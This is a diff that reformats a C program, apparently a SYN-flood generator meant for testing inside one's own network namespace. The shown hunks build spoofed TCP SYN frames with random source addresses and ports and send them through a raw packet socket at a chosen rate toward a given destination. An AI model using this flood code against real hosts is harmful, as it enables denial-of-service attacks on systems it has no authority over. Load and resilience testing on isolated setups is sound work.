@@ -1,6 +1,6 @@
 /*
- * A SYN flood, for a namespace of one's own: spoofed SYNs onto an interface at a given rate, each from
- * an address and port that nobody has.
+ * A SYN flood, for a namespace of one's own: spoofed SYNs onto an interface at a given rate, each
+ * from an address and port that nobody has.
  *
  * usage: flood INTERFACE DEST-MAC DEST-ADDRESS PORT RATE SECONDS
  * Prints how many were sent, and how many a second.
@@ -62,16 +62,23 @@ static uint64_t rnd(uint64_t *seed)
 
 static void make(struct frame *f, uint64_t *seed, uint32_t dst, uint16_t port)
 {
-	static const uint8_t options[20] = {2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 1, 0, 0, 0, 0, 0, 1, 3,
-		3, 7};
+	static const uint8_t options[20] = {2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 1, 0, 0, 0, 0, 0, 1,
+		3, 3, 7};
 	uint64_t r = rnd(seed);
 	f->eth.h_proto = htons(ETH_P_IP);
-	f->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP,
-		.tot_len = htons(sizeof *f - sizeof f->eth), .daddr = dst,
+	f->ip = (struct iphdr){.version = 4,
+		.ihl = 5,
+		.ttl = 64,
+		.protocol = IPPROTO_TCP,
+		.tot_len = htons(sizeof *f - sizeof f->eth),
+		.daddr = dst,
 		.saddr = htonl(0xc6120000u | (uint32_t)(r & 0x1ffff))}; /* 198.18.0.0/15 */
 	f->ip.check = fold(sum(&f->ip, sizeof f->ip));
 	f->tcp = (struct tcphdr){.source = htons((uint16_t)(1024 + (r >> 20) % 60000)),
-		.dest = htons(port), .seq = htonl((uint32_t)(r >> 32)), .syn = 1, .doff = 10,
+		.dest = htons(port),
+		.seq = htonl((uint32_t)(r >> 32)),
+		.syn = 1,
+		.doff = 10,
 		.window = htons(64240)};
 	memcpy(f->options, options, sizeof options);
 	uint32_t s = sum(&f->ip.saddr, 8) + IPPROTO_TCP + sizeof f->tcp + sizeof f->options;
@@ -89,9 +96,10 @@ int main(int argc, char **argv)
 	uint64_t seed = 88172645463325252u, sent = 0;
 	double rate = atof(argv[5]), seconds = atof(argv[6]);
 	int fd = socket(AF_PACKET, SOCK_RAW, 0), one = 1;
-	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1])};
-	sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4],
-		&mac[5]);
+	struct sockaddr_ll to = {.sll_family = AF_PACKET,
+		.sll_ifindex = (int)if_nametoindex(argv[1])};
+	sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
+		&mac[4], &mac[5]);
 	if (fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof to) != 0) {
 		perror("flood");
 		return 1;
